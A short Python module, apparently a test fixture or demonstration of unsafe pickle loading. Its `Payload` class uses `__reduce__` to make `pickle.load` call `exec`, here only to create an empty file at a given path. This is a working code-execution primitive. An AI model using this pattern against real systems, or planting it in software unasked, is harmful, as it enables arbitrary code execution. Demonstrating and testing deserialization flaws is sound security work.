"""A pickle that does something when it is loaded without care."""

from pathlib import Path


class Payload:
    """Writes a file when it is unpickled by `pickle.load`."""

    def __init__(self, target: Path):
        self.target = target

    def __reduce__(self):
        return exec, (f"open({str(self.target)!r}, 'w').close()",)
